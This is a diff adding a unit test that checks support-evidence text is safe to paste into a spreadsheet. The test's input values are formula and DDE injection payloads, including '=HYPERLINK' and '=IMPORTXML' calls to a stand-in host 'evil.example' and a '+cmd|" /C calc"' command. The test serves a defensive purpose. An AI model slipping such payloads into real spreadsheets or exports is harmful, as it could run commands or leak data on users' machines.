@@ -58,4 +58,45 @@ describe('buildSupportEvidence', () => {
     expect(text).toContain('API request ids: 9a8b7c6d-5e4f-4a3b-8c2d-1e0f9a8b7c6d');
     expect(text).not.toMatch(/Bearer|eyJ/);
   });
+
+  it('cannot become a formula or extra cells when pasted into a spreadsheet', () => {
+    const hostile = makeRun({
+      run_id: '=HYPERLINK("http://evil.example")',
+      status: 'FAILURE',
+      started_at: '2026-11-29T09:15:00Z',
+      temporal_workflow_id: '+cmd|" /C calc"!A0',
+      activities: [
+        {
+          activity_label: '@SUM(1)',
+          synced_count: 0,
+          total_count: 1,
+          failures: [
+            {
+              resource_label: '-2+3',
+              parent_label: 'a\tb',
+              reason: 'x\n=1+1',
+              error_message: '\t=IMPORTXML("http://evil.example")',
+            },
+          ],
+        },
+      ],
+    });
+    const text = buildSupportEvidence({
+      integration: 'halopsa',
+      question: {
+        activity: '@SUM(1)',
+        resource: '=1',
+        createdAt: Date.parse('2026-11-29T08:30:00Z'),
+      },
+      verdict: { kind: 'should-be-there', coveringRun: hostile, cadence: null },
+      runs: [hostile],
+      openSignatures: failureSignatures([hostile]).filter((s) => s.state === 'open'),
+      requestIds: [],
+      now: Date.parse('2026-11-29T10:00:00Z'),
+    });
+    expect(text).not.toContain('\t');
+    for (const line of text.split('\n')) expect(line).not.toMatch(/^\s*[=+\-@]/);
+    // The values are still there, as text.
+    expect(text).toContain('run =HYPERLINK("http://evil.example")');
+  });
 });
